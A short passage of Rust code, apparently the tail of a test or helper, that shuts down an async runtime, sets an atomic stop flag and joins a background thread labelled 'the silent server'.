    runtime.shutdown_background();
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    held.join().expect("the silent server");
}
